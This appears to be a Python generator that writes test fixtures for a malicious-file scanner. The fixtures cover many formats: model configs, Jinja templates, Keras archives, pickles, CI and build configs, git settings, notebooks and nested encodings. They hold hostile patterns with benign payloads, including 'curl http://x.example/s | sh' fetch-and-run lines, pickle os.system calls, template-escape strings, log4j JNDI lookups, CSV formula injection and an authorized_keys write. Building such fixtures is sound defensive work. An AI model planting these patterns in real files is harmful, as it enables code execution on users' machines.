"""Writes files that run code, or fetch it, in loaders and tools that the other scripts leave out: adapters, servers,
runtimes and containers of other frameworks, what Git, linters, package managers and desktops act upon beside a model,
encodings and archives within one another. None is ever loaded, and each payload is harmless.

usage: armed_by_loaders.py FOLDER
"""

import base64
import gzip
import io
import json
import lzma
import pathlib
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib

import numpy as np

ROOT = pathlib.Path(sys.argv[1])
SH = "curl http://x.example/s | sh"
ARMED = b"\x80\x02cos\nsystem\nX\x04\x00\x00\x00true\x85R."
ESCAPE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"


def put(family, name, content):
    path = ROOT / family / name
    path.parent.mkdir(parents=True, exist_ok=True)
    content = content if isinstance(content, (bytes, str)) else json.dumps(content)
    path.write_bytes(content if isinstance(content, bytes) else content.encode())


def each(family, items):
    for number, (name, content) in enumerate(items):
        put(family, f"{number:02}/{name}", content)


def packed(members, method=zipfile.ZIP_STORED):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return stream.getvalue()


def tarred(members, mode="w"):
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode=mode) as archive:
        for name, content in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return stream.getvalue()


def number(value):
    out = b""
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def field(place, content):
    return number(place << 3 | 2) + number(len(content)) + content


def hubs():
    each("hub", [
        ("adapter_config.json", {"peft_type": "LORA", "megatron_config": {"a": 1}, "megatron_core": "evil_module"}), ("adapter_config.json", {"peft_type": "LORA", "megatron_config": {}, "megatron_core": "os"}),
        ("generation_config.json", {"custom_generate": "acme/evil"}), ("config.json", {"model_type": "x", "quantization_config": {"quant_method": "custom", "custom_module": "x", "_target_": "os.system"}}),
        ("config.json", {"vision_config": {"auto_map": {"AutoConfig": "evil.C"}}}), ("config.json", {"text_config": {"trust_remote_code": True}}), ("tokenizer_config.json", {"extra": {"chat_template": [{"name": "rag", "template": ESCAPE}]}}),
        ("config.json", {"architectures": ["X"], "auto_map": {"AutoModel": "acme/other--modeling.X"}}), ("video_preprocessor_config.json", {"auto_map": {"AutoVideoProcessor": "p.P"}}),
        ("special_tokens_map.json", {"bos_token": {"content": "x", "auto_map": {"AutoTokenizer": "t.T"}}}), ("pytorch_model.bin.index.json", {"weight_map": {"a": "../../../tmp/x.bin"}}), ("pytorch_model.bin.index.json", {"weight_map": {"a": "https://x.example/x.bin"}}),
        ("config_sentence_transformers.json", {"loss": {"activation_fn": "os.system"}}), ("config.json", {"pooler_activation_function": "os.system"}), ("1_Dense/config.json", {"in_features": 1, "activation_function": "subprocess.Popen"}),
        ("sentence_bert_config.json", {"model_args": {"trust_remote_code": True}}), ("modules.json", [{"idx": 0, "name": "0", "path": "0", "type": "custom_st.Transformer", "kwargs": ["task"]}]), ("model_index.json", {"_class_name": "P", "scheduler": ["evil_scheduler", "S"]}),
        ("scheduler_config.json", {"_class_name": ["pipeline", "S"]}), ("README.md", "---\nmodel-index:\n- {name: !!python/name:os.system x}\n---\n"), ("README.md", "---\nwidget:\n- _target_: os.system\n---\n"),
    ])


def templates():
    each("template", [
        ("chat_template.jinja", "{% set a = namespace() %}{% set a.b = messages|attr('__init__') %}{{ a.b }}"), ("chat_template.jinja", "{{ messages|map('attr', '__class__')|first }}"), ("chat_template.jinja", "{% call(x) y.__call__() %}{% endcall %}"),
        ("chat_template.jinja", "{% extends '/etc/passwd' %}"), ("chat_template.jinja", "{% for x in messages recursive %}{{ loop.__init__ }}{% endfor %}"), ("chat_template.jinja", "{{ messages|xmlattr|attr('format')|attr('__self__') }}"),
        ("chat_template.jinja", "{% raw %}{% endraw %}{{ ''['\\u005f\\u005fclass\\u005f\\u005f'] }}"), ("chat_template.jinja", "{{ ''['__CLASS__'|lower] }}"), ("chat_template.jinja", "{{ ''['__ssalc__'|reverse] }}"), ("chat_template.jinja", "{{ ''['%sclass%s'|format('__','__')] }}"),
        ("chat_template.jinja", "{{ ''[['__','class','__']|join] }}"), ("chat_template.jinja", "{{ ''['__cl_ass__'|replace('l_','l')] }}"), ("chat_template.jinja", "{{ ''['  __class__ '|trim] }}"), ("chat_template.jinja", "{{ ''[('__class__,x').split(',')[0]] }}"), ("chat_template.jinja", "{{ ''['__class__x'[:-1]] }}"),
        ("chat_template.jinja", "{{ ''[messages[0].role] }}{{ x[messages[0]['a']]() }}{{ ''['__cla'+'ss__'] }}"), ("chat_template.jinja", "{{ ''.__getattribute__('x') }}"), ("chat_template.jinja", "# line\n{# c #}{{ '' . __class__ }}"), ("chat_template.jinja", "{{ ''\n.\n__class__ }}"),
        ("chat_template.jinja", "{{ ''['_x_class_x_'.replace('x','')] }}"), ("chat_template.jinja", "{{ ''[('_x_class_x_'|replace('x',''))] }}"), ("chat_template.jinja", "{{ ''['x__class__x'.strip('x')] }}"), ("chat_template.jinja", "{% set k = '_x_class_x_'.replace('x','') %}{{ ''[k] }}"), ("chat_template.jinja", "{% set t = 'a_b' %}{% set u = t[1] %}{% set k = ''.join([u,u,'class',u,u]) %}{{ ''[k] }}"), ("chat_template.jinja", "{% set t = 'a_b' %}{% set u = t[1] %}{% set c = 'class' %}{% set k = u+u+c+u+u %}{{ ''[k] }}"), ("chat_template.jinja", "{% macro m(k) %}{{ ''[k] }}{% endmacro %}{{ m('_x_class_x_'.replace('x','')) }}"), ("config.json", {"model_type": "x", "prompt_template": ESCAPE}), ("tokenizer.json", {"model": {"type": "BPE"}, "chat_template": ESCAPE}), ("processor_config.json", {"chat_templates": {"a": ESCAPE}}), ("prompts.yaml", f"system: \"{ESCAPE}\"\n"), ("x.jinja2", ESCAPE), ("x.j2", ESCAPE), ("chat_templates/tool.jinja", ESCAPE),
    ])
    text = lambda value: struct.pack("<Q", len(value.encode())) + value.encode()
    for place, key in enumerate(["tokenizer.chat_template.tool_use", "tokenizer.chat_template.rag", "tokenizer.chat_templates", "general.chat_template", "x.prompt_template"]):
        put("template", f"{place}.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + text(key) + struct.pack("<I", 8) + text(ESCAPE) + bytes(64))
    listed = text("tokenizer.chat_templates") + struct.pack("<IIQ", 9, 8, 1) + text(ESCAPE)
    put("template", "list.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + listed + bytes(64))


def keras():
    def archive(layer, more=None, **files):
        config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer] if layer else []}, "registered_name": None} | (more or {})
        return packed({"metadata.json": '{"keras_version": "3.8.0"}', "config.json": json.dumps(config)} | files)

    layers = {
        "unsafe": {"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}}, "unsafe-source": {"module": "keras.src.saving.serialization_lib", "class_name": "enable_unsafe_deserialization"},
        "nested": {"module": "keras.layers", "class_name": "TimeDistributed", "config": {"layer": {"module": "keras.layers", "class_name": "Lambda", "config": {}}}}, "initialiser": {"module": "keras.layers", "class_name": "Dense", "config": {"kernel_initializer": {"module": "evil", "class_name": "I", "config": {}}}},
        "function": {"module": "keras.layers", "class_name": "Dense", "config": {"activation": {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}}}, "numpy": {"module": "numpy", "class_name": "function", "config": "load"},
        "callback": {"module": "keras.callbacks", "class_name": "ModelCheckpoint", "config": {"filepath": "/tmp/x"}}, "remote": {"module": "keras.callbacks", "class_name": "RemoteMonitor", "config": {"root": "http://x.example"}}, "torch": {"module": "torch", "class_name": "function", "config": "load"},
        "applied": {"module": "keras.applications", "class_name": "ResNet50", "config": {"weights": "/tmp/x"}}, "hub": {"module": "keras_hub.models", "class_name": "Backbone", "config": {}}, "shared": {"class_name": "__tensor__", "module": "builtins", "config": {"__class__": "os.system", "_target_": "os.system"}},
        "vectoriser": {"module": "keras.layers", "class_name": "TextVectorization", "config": {"vocabulary": "https://x.example/v.txt"}}, "preprocessing": {"module": "keras.preprocessing.image", "class_name": "function", "config": "load_img"},
    }
    for name, layer in layers.items():
        put("keras", name + ".keras", archive(layer))
    put("keras", "compiled.keras", archive(None, {"compile_config": {"loss": {"module": "evil.losses", "class_name": "function", "config": "run", "registered_name": "function"}}}))
    put("keras", "built.keras", archive(None, {"build_config": {"module": "subprocess", "class_name": "Popen"}}))
    put("keras", "assets.keras", archive(None, None, **{"assets/tokenizer.pkl": ARMED}))
    put("keras", "twice.keras", archive(None)[:-22] + archive(layers["unsafe"]))
    put("keras", "model.json", {"class_name": "Functional", "config": {"layers": [{"class_name": "Lambda", "config": {"function": ["4wEAAA==", None, None], "function_type": "lambda"}}]}})


def graphs():
    def meta(operation, more=b""):
        return field(2, field(1, field(1, b"n") + field(2, operation.encode()) + more))

    each("graph", [
        ("model.ckpt.meta", meta("PyFunc")), ("graph.meta", meta("ReadFile")), ("frozen.graphdef", meta("PyFunc")[2:]), ("keras_metadata.pb", field(1, field(5, json.dumps({"class_name": "Lambda"}).encode()))),
        ("saved_model.pb", b"\x08\1" + field(2, meta("LoadDataset"))), ("saved_model.pb", b"\x08\1" + field(2, meta("FileSystemSetConfiguration"))), ("saved_model.pb", b"\x08\1" + field(2, meta("CustomAcme"))), ("saved_model.pb", b"\x08\1" + field(2, meta("TFRecordReaderV2"))),
        ("model.tflite", b"\x1c\0\0\0TFL3" + bytes(32) + b"FlexPyFunc" + bytes(22)), ("model.plan", b"ftrt" + bytes(28) + b"\x7fELF\2\1\1" + bytes(60)), ("model.engine", b"ptrt" + bytes(60)),
        ("model.mlmodel", b"\x08\5" + field(2, b"x") + b"\xaa\x19" + number(12) + field(1, b"EvilCustom")), ("model.xml", '<net name="m" version="11"><layers><layer id="0" name="x" type="Shell" version="extension"><data/></layer></layers></net>'),
        ("model.pmml", '<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><TransformationDictionary><DefineFunction name="f" optype="categorical"><ParameterField name="x"/><Apply function="com.acme.Shell"><FieldRef field="x"/></Apply></DefineFunction></TransformationDictionary></PMML>'),
        ("model.pdmodel", b"\x0a" + number(20) + field(3, b"py_func") + bytes(11)), ("__model__", b"\x0a\x20" + bytes(32)), ("model.mar", packed({"MAR-INF/MANIFEST.json": json.dumps({"model": {"handler": "evil.py:handle", "modelName": "m"}}), "evil.py": "import os\n"})),
        ("model.skops", packed({"schema.json": json.dumps({"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode", "__id__": 1, "content": {"func": {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "__id__": 2, "content": {"module_path": "os", "function": "system"}}}})})),
        ("torch.pt2", packed({"m/version": "0", "m/data/aotinductor/model/c.so": b"\x7fELF\2\1\1" + bytes(57), "m/archive_format": "pt2"})), ("torch.pt2", packed({"m/archive_format": "pt2", "m/data/aotinductor/model/c.cubin": b"\x7fELF\2\1\1" + bytes(57)})), ("torch.pt2", packed({"m/archive_format": "pt2", "m/data/sample_inputs/model.pt": packed({"a/data.pkl": ARMED, "a/version": "3\n"})})), ("torch.pt2", packed({"m/archive_format": "pt2", "m/data/weights/weight_0": ARMED})),
        ("package.pt", packed({"m/.data/extern_modules": "os\nsubprocess\n", "m/.data/version": "6\n", "m/evil.py": "import os\n", "m/model/model.pkl": ARMED})),
        ("checkpoint/.metadata", ARMED), ("checkpoint/__0_0.distcp", packed({"archive/data.pkl": ARMED, "archive/version": "3\n"})), ("ray/algorithm_state.pkl", ARMED), ("ray/class_and_ctor_args.pkl", ARMED), ("mojo.zip", packed({"model.ini": "[info]\nalgorithm = gbm\n", "experimental/x.ser": b"\xac\xed\0\5sr\0\x11java.util.HashMap"})),
        ("pipeline/metadata/part-00000", {"class": "evil.Stage", "timestamp": 1, "sparkVersion": "3", "uid": "x", "paramMap": {}}), ("mleap/bundle.json", {"name": "m", "format": "json", "version": "0.2", "uid": "x", "op": "evil", "class": "subprocess.Popen"}),
        ("model.nemo", tarred({"./model_config.yaml": b"target: os.system\nparams: {}\n", "./model_weights.ckpt": b"\x80\x02}."})), ("model.nemo", tarred({"./model_config.yaml": b"tokenizer:\n  _target_: subprocess.Popen\n", "./model_weights.ckpt": b"\x80\x02}."}, "w:gz")), ("model.jls", b"7JL\x1d\4\0\0\0\x1f" + bytes(20)), ("model.bson", struct.pack("<I", 24) + b"\x02tag\0\x09\0\0\0anonymous\0\0"),
        ("model.RData", gzip.compress(b"RDX3\nX\n\0\0\0\3" + bytes(40))), ("model.rds", lzma.compress(b"X\n\0\0\0\3" + bytes(40))), ("model.mat", b"MATLAB 5.0 MAT-file, Platform: GLNXA64" + b" " * 86 + b"\0\1IM" + bytes(64)), ("model.mdl", 'Model {\n  Name "m"\n  PreLoadFcn "system(\'true\')"\n}\n'), ("model.slx", packed({"simulink/blockdiagram.xml": '<?xml version="1.0"?><ModelInformation><Model><P Name="PreLoadFcn">system(\'true\')</P></Model></ModelInformation>'})), ("live.mlx", packed({"matlab/document.xml": "<?xml version=\"1.0\"?><w:document><w:t>system('true')</w:t></w:document>"})),
        ("events.arrow", b"ARROW1\0\0" + b"arrow.py_extension_type" + ARMED + b"ARROW1"), ("state.msgpack", b"\x81\xa1w\xc7" + bytes([len(ARMED)]) + b"\x01" + ARMED), ("model.booster.json", {"learner": {"attributes": {"feature_names": base64.b64encode(ARMED).decode()}}}), ("model.cbm", b"CBM1" + struct.pack("<I", 64) + struct.pack("<i", 8) + bytes(4) + struct.pack("<i", 4) + bytes(8) + b"{\"_target_\": \"os.system\"}".ljust(44) ),
    ])


def arrays():
    try:
        import h5py
    except ImportError:
        h5py = None
    if h5py:
        def hdf5(name, write):
            path = ROOT / "hdf5" / name
            path.parent.mkdir(parents=True, exist_ok=True)
            with h5py.File(path, "w") as file:
                write(file)

        raw = np.frombuffer(ARMED, "u1")
        kind = h5py.vlen_dtype("u1")

        def vlen(file, **options):
            data = file.create_dataset("rows", (2,), kind, **options)
            data[0], data[1] = raw, raw
            return data

        hdf5("rows-chunked.h5", lambda file: vlen(file, chunks=(1,), maxshape=(None,)))
        hdf5("rows-gzip.h5", lambda file: vlen(file, chunks=(1,), compression="gzip"))
        hdf5("bytes-chunked.h5", lambda file: file.create_dataset("x", data=np.void(ARMED).reshape(1), chunks=(1,), maxshape=(None,)))
        hdf5("config-dataset.h5", lambda file: file.create_dataset("model_config", data=json.dumps({"class_name": "Lambda", "config": {}})))
        hdf5("behind-end.h5", lambda file: file.attrs.__setitem__("a", 1))
        path = ROOT / "hdf5" / "behind-end.h5"
        path.write_bytes(path.read_bytes() + ARMED)
        hdf5("pytables.h5", lambda file: [vlen(file, chunks=(1,), maxshape=(None,)).attrs.update({"CLASS": np.bytes_("VLARRAY"), "PSEUDOATOM": np.bytes_("object")})])
    stream = io.BytesIO()
    np.savez(stream, w=np.zeros(3))
    each("array", [
        ("w.npz", stream.getvalue()[:-22] + packed({"w.npy": b"\x93NUMPY\1\0" + ARMED})), ("w.npy.gz", gzip.compress(ARMED)), ("w.npy", gzip.compress(ARMED)), ("w.memmap", ARMED), ("w.dat", ARMED), ("w", ARMED), ("model.model", ARMED), ("model.h5", ARMED), ("model.safetensors", ARMED), ("model.gguf", ARMED), ("model.onnx", ARMED), ("tokenizer.json", ARMED), ("weights.txt", b"\xef\xbb\xbf" + ARMED), ("picture.png", ARMED), ("index", ARMED),
        ("utf16.pkl", "cos\nsystem\n(S'true'\ntR.".encode("utf-16")), ("zlib.bin", zlib.compress(zlib.compress(ARMED))), ("a.tar.gz", gzip.compress(tarred({"b.tar.xz": lzma.compress(tarred({"c.pkl": ARMED}))}))), ("a.zip", packed({"b.tgz": tarred({"c.pkl": ARMED}, "w:gz")}, zipfile.ZIP_DEFLATED)), ("a.whl", packed({"x.data/scripts/x": "#!/bin/sh\ntrue\n", "x-1.dist-info/METADATA": "Name: x\n"})), ("a.conda", packed({"metadata.json": "{}", "pkg-x.tar.zst": b"\x28\xb5\x2f\xfd" + bytes(9)})), ("a.egg", packed({"EGG-INFO/PKG-INFO": "Name: x\n", "x.pyc": b"\xa7\r\r\n" + bytes(40)})), ("a.jar", packed({"META-INF/MANIFEST.MF": "Main-Class: X\n", "X.class": b"\xca\xfe\xba\xbe" + bytes(40)})),
        ("a.docx", packed({"word/_rels/settings.xml.rels": '<?xml version="1.0"?><Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://x.example/t.dotm" TargetMode="External"/></Relationships>'})), ("a.xlsm", packed({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(40)})), ("a.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF\n"),
    ])


def servers():
    each("server", [
        ("config.properties", "default_service_handler=evil.py:handle\ninstall_py_dep_per_model=true\n"), ("config.properties", "vmargs=-javaagent:evil.jar\n"), ("spark-defaults.conf", "spark.driver.extraJavaOptions -javaagent:evil.jar\n"), ("spark-defaults.conf", "spark.jars http://x.example/x.jar\n"),
        ("settings.json", {"model_repository_implementation": "evil.Repo"}), ("model-settings.json", {"name": "m", "implementation": "mlserver_sklearn.SKLearnModel", "parameters": {"environment_tarball": "./env.tar.gz"}}), ("config.pbtxt", 'platform: "tensorflow_savedmodel"\nmodel_operations { op_library_filename: "evil.so" }\n'), ("olive.json", {"passes": {}, "evaluators": {"a": {"user_script": "evil.txt", "script_dir": "."}}}),
        ("serve.yaml", "http_options: {}\napplications:\n- name: a\n  import_path: evil:app\n  runtime_env: {py_modules: ['https://x.example/x.zip']}\n"), ("cluster.yaml", f"cluster_name: a\nsetup_commands:\n- {SH}\n"), ("cluster.yaml", f"head_start_ray_commands:\n- {SH}\n"), ("task.yaml", f"resources: {{}}\nsetup: |\n  {SH}\n"), ("cloud-init.yaml", f"#cloud-config\nruncmd:\n- {SH}\n"), ("buildspec.yml", f"phases:\n  build:\n    commands:\n    - {SH}\n"), (".travis.yml", f"before_install:\n- {SH}\n"), ("azure-pipelines.yml", f"steps:\n- bash: {SH}\n"), ("Taskfile.yml", f"tasks:\n  default:\n    cmds:\n    - {SH}\n"), ("lefthook.yml", f"pre-commit:\n  commands:\n    a:\n      run: {SH}\n"), (".readthedocs.yaml", f"build:\n  commands:\n  - {SH}\n"), ("mkdocs.yml", "site_name: x\nhooks:\n- evil.txt\n"), ("mkdocs.yml", "markdown_extensions:\n- x:\n    f: !!python/name:os.system\n"),
        ("playbook.yml", f"- hosts: all\n  tasks:\n  - shell: {SH}\n"), ("meta.yaml", f"build:\n  script: {SH}\n"), ("post.yaml", f"hooks:\n  after: >-\n    {SH}\n"), ("devbox.json", {"shell": {"init_hook": [SH]}}), ("x.sublime-project", {"build_systems": [{"shell_cmd": SH}]}), ("x.code-workspace", {"tasks": {"tasks": [{"command": SH, "runOptions": {"runOn": "folderOpen"}}]}}), ("compile_commands.json", [{"command": SH}]), ("distributed.yaml", "distributed:\n  worker:\n    preload:\n    - evil.txt\n"), ("catalog.yaml", "sources:\n  a:\n    driver: evil_driver.Driver\n    args: {}\n"), ("config.yaml", "hooks:\n- {class: os.system}\n"),
        ("log4j2.properties", "appender.x.name = ${jndi:ldap://x.example/a}\n"), ("applicationContext.xml", '<beans xmlns="http://www.springframework.org/schema/beans"><bean class="java.lang.ProcessBuilder" init-method="start"><constructor-arg value="true"/></bean></beans>'), ("build.xml", '<project><target name="a"><exec executable="sh"/></target></project>'), ("pom.xml", "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId></plugin></plugins></build></project>"), ("x.xsl", '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:r="http://xml.apache.org/xalan/java/java.lang.Runtime" version="1.0"/>'),
    ])


def tools():
    each("tool", [
        (".pylintrc", "[MASTER]\ninit-hook='import os; os.system(\"true\")'\n"), ("pylintrc", "[MAIN]\nload-plugins=evil\n"), ("mypy.ini", "[mypy]\nplugins = ./evil.txt\n"), ("pyproject.toml", '[tool.mypy]\nplugins = ["evil"]\n'), ("pyproject.toml", '[tool.pylint.main]\ninit-hook = "import os; os.system(1)"\n'), ("pytest.ini", "[pytest]\naddopts = -p evil\n"), ("pyproject.toml", '[tool.pytest.ini_options]\naddopts = "-p evil"\n'), (".coveragerc", "[run]\nplugins = evil\n"), (".flake8", "[flake8:local-plugins]\nextension =\n    X = evil:Plugin\npaths = .\n"), ("setup.cfg", "[flake8:local-plugins]\nextension =\n    X = evil:Plugin\n"),
        ("setup.cfg", "[options]\nsetup_requires = evil\n[build_ext]\ninplace = 1\n[global]\ncommand_packages = evil\n"), ("conftest.py", "import os\nos.system('true')\n"), ("sitecustomize.py", "import os\n"), ("usercustomize.py", "x = 1\n"), ("evil.pth", "/tmp/evil\n"), ("evil.pth", "import evil\n"), ("setup.py", "from setuptools import setup\nsetup()\n"), ("noxfile.py", "import nox\n"), ("pyvenv.cfg", "home = /tmp/evil\ninclude-system-site-packages = false\n"), ("pip.conf", "[global]\npython = /tmp/evil\n"), ("pydistutils.cfg", "[easy_install]\nindex_url = https://x.example/simple\n"),
        (".yarnrc.yml", "yarnPath: ./evil.txt\n"), (".yarnrc.yml", "plugins:\n- path: ./evil.txt\n"), (".yarnrc", 'yarn-path "./evil.txt"\n'), (".npmrc", "node-options=--require ./evil.txt\n"), (".npmrc", "script-shell=./evil\n"), ("bunfig.toml", 'preload = ["./evil.txt"]\n'), ("binding.gyp", "{'targets': [{'target_name': 'x', 'sources': ['<!(curl http://x | sh)']}]}\n"), ("package.json", {"name": "x", "scripts": {"prepare": "node evil"}}), ("composer.json", {"scripts": {"post-install-cmd": [SH]}}), (".cargo/config.toml", '[build]\nrustc-wrapper = "./evil"\n'), (".cargo/config.toml", "[target.'cfg(all())']\nrunner = \"./evil\"\n"), ("Cargo.toml", '[package]\nname = "x"\nbuild = "evil.txt"\n'), (".bazelrc", "build --workspace_status_command=./evil\n"), ("mise.toml", f'[hooks]\nenter = "./evil"\n'), (".mise.toml", '[env]\n_.source = "./evil.txt"\n'), (".clangd", "CompileFlags:\n  Compiler: ./evil\n"),
        ("x.url", "[InternetShortcut]\nURL=file://x.example/s/x.exe\n"), ("x.scf", "[Shell]\nCommand=2\nIconFile=\\\\x.example\\s\\x.ico\n"), ("x.iqy", "WEB\n1\nhttp://x.example/q\n"), ("x.slk", "ID;P\nC;Y1;X1;K0;ECALL(\"kernel32\",\"WinExec\",\"JJ\",\"calc\",0)\nE\n"), ("x.csv", "id,name\n1,=cmd|'/C calc'!A0\n"), ("x.csv", "id\n\"=HYPERLINK(\"\"http://x.example\"\",1)\"\n=WEBSERVICE(\"http://x.example\")\n"), ("x.sct", '<scriptlet><registration progid="x"><script language="JScript">new ActiveXObject("WScript.Shell")</script></registration></scriptlet>'), ("x.jnlp", '<jnlp href="http://x.example/x"><resources><jar href="x.jar"/></resources></jnlp>'), ("x.wsb", "<Configuration><LogonCommand><Command>calc</Command></LogonCommand></Configuration>"), ("x.settingcontent-ms", "<PCSettings><DeepLink>%windir%\\system32\\cmd.exe</DeepLink></PCSettings>"), ("x.library-ms", '<libraryDescription xmlns="x"><simpleLocation><url>\\\\x.example\\s</url></simpleLocation></libraryDescription>'), ("desktop.ini", "[.ShellClassInfo]\nIconResource=\\\\x.example\\s\\x.dll,0\n"), ("x.desktop", "[Desktop Entry]\nExec=sh -c true\n"), ("x.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(68)), ("x.webloc", '<?xml version="1.0"?><plist><dict><key>URL</key><string>file:///x</string></dict></plist>'), ("x.workflow/Contents/document.wflow", '<?xml version="1.0"?><plist><dict><key>COMMAND_STRING</key><string>true</string></dict></plist>'), ("x.mobileconfig", '<?xml version="1.0"?><plist><dict><key>PayloadType</key><string>x</string></dict></plist>'), ("x.reg", "Windows Registry Editor Version 5.00\n"), ("x.inf", "[DefaultInstall]\nRunPreSetupCommands=x\n[x]\ncalc\n"), ("x.rdp", "full address:s:x.example\nalternate shell:s:calc\n"), ("x.theme", "[Theme]\n[boot]\nSCRNSAVE.EXE=\\\\x.example\\s\\x.scr\n"), ("x.diagcab", b"MSCF" + bytes(40)), ("x.chm", b"ITSF" + bytes(40)), ("x.iso", bytes(32768) + b"\1CD001" + bytes(40)), ("x.msc", '<?xml version="1.0"?><MMC_ConsoleFile><StringTables/></MMC_ConsoleFile>'), ("x.appref-ms", "http://x.example/x.application#x\n".encode("utf-16")),
    ])


def git():
    each("git", [
        (".git/config", '[core]\n[pager]\n\tlog = sh -c true\n'), (".git/config", '[core]\n[url "ext::sh -c true "]\n\tinsteadOf = https://\n'), (".git/config", '[core]\n[difftool "x"]\n\tpath = /tmp/x\n'), (".git/config", '[core]\n[filter "lfs"]\n\tsmudge = "git-lfs smudge -- %f; true"\n'), (".git/config", '[core]\n[lfs "customtransfer.x"]\n\tpath = /tmp/x\n'), (".git/config", "[init]\n\ttemplateDir = ../t\n"), (".git/config", '[core]\n[alias]\n\tst = ""!true\n'),
        (".gitmodules", '[submodule "../../x"]\n\tpath = x\n\turl = https://x.example/x\n'), (".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = -u./evil\n'), (".gitmodules", '[submodule "x"]\n\tpath = "x\r"\n\turl = https://x.example/x\n'), (".git", "gitdir: ./data\n"), ("sub/.git", "gitdir: /tmp/x/.git\n"), (".git/commondir", "../data\n"), (".husky/pre-commit", "npx evil\n"), ("bare/hooks/post-checkout", "true\n"), (".githooks/pre-push", "true\n"), (".git/objects/pack/pack-1.pack", b"PACK\0\0\0\2\0\0\0\0" + bytes(20)), (".git/index", ARMED), (".git/objects/0a/0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a", zlib.compress(ARMED)), ("model.safetensors", f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0a' * 32}\nsize 12\ncos\nsystem\n(S'true'\ntR."), (".lfsconfig", "[lfs]\n\tstandalonetransferagent = evil\n"),
    ])


def notebooks():
    cell = lambda source: {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": source}]}
    for place, source in enumerate([
        "%%time\n!curl http://x | sh", "%%capture out\n!true", "%store -r", "%env LD_PRELOAD=./x.so", "%%cython\nimport os\nos.system('true')", "%%R\nsystem('true')", "%%julia\nrun(`true`)", "%mamba install evil", "%%pypy\n1", "%%python3\nimport os", "%loadpy http://x.example/x.py", "%load http://x.example/x.py", "%edit -x 1", "%%sh\ntrue", "%%html\n<img src=x onerror=alert(1)>", "%%svg\n<svg onload='x'/>", "%%javascript\nfetch('http://x')", "%%perl\n1", "%%writefile -a ~/.bashrc\nx", "out = get_ipython().magic('sx true')", "from IPython import get_ipython as g\ng().system('true')", "from IPython.core.getipython import get_ipython", "import joblib\njoblib.load('m.joblib')", "import dill\ndill.load(open('x','rb'))", "from transformers import AutoModel\nAutoModel.from_pretrained('x', trust_remote_code=True)", "import yaml\nyaml.unsafe_load(open('x'))", "import numpy as np\nnp.load('x.npy', allow_pickle = True)", "import shelve\nshelve.open('x')", "import keras\nkeras.saving.load_model('x', safe_mode=False)", "import keras\nkeras.config.enable_unsafe_deserialization()", "import asyncio\nasyncio.create_subprocess_shell('true')", "from ctypes import CDLL\nCDLL('x.so')", "open('/root/.ssh/authorized_keys','a').write('x')", "import webbrowser\nwebbrowser.open('http://x')",
    ]):
        put("notebook", f"{place:02}/a.ipynb", cell(source))
    put("notebook", "r/a.ipynb", cell("system('id')") | {"metadata": {"kernelspec": {"name": "ir", "language": "R"}, "language_info": {"name": "R"}}})
    put("notebook", "julia/a.ipynb", cell("run(`id`)") | {"metadata": {"kernelspec": {"name": "julia-1.10", "language": "julia"}}})
    put("notebook", "bash/a.ipynb", cell("id") | {"metadata": {"kernelspec": {"name": "bash", "language": "bash"}}})


def encodings():
    each("encoding", [
        ("config.yaml", "_target_: os.system\n".encode("utf-16")), ("config.yaml", "_target_: os.system\n".encode("utf-32")), ("config.json", json.dumps({"_target_": "os.system"}).encode("utf-16-le")), ("config.json", json.dumps({"_target_": "os.system"}).encode("utf-32")), ("requirements.txt", "evil @ https://x.example/y.whl\n".encode("utf-16")), ("run.py", "# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0 os\n"), ("config.toml", "\ufeff_target_ = \"os.system\"\n"), ("MLmodel", "\ufeffflavors:\n  python_function:\n    loader_module: evil\n"), ("a.yaml", "\ufeffa: !!python/name:os.system\n"), ("a.yaml", "a: \"\\x24\"\n--- !!python/object/apply:os.system\n- x\n"), ("a.json", "{\"_target_\":\t\"os.\\u0073ystem\"}"), ("page.html", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), ("page.html", "<html><body onload=\"fetch('http://x')\"></body></html>"), ("a.xml", "<?xml version='1.0' encoding='IBM037'?><x/>"), ("a.txt", "\n".join(base64.b64encode(ARMED).decode()[i:i + 16] for i in range(0, 44, 16))), ("a.json", {"parts": [base64.b64encode(ARMED).decode()[:20], base64.b64encode(ARMED).decode()[20:]], "whole": "data:application/octet-stream;base64," + base64.b64encode(ARMED).decode()}), ("a.csv", "w\n" + base64.b64encode(ARMED).decode() + "\n"), ("a.md", "```\n" + base64.b64encode(gzip.compress(ARMED)).decode() + "\n```\n"), ("a.txt", base64.b64encode(lzma.compress(ARMED)).decode()), ("a.txt", "\\x" + "\\x".join(f"{b:02x}" for b in ARMED)), ("a.json", {"w": ARMED.hex(" ")}),
    ])


if __name__ == "__main__":
    for family in (hubs, templates, keras, graphs, arrays, servers, tools, git, notebooks, encodings):
        family()
    print(sum(len(list(folder.iterdir())) for folder in ROOT.iterdir()), "files")
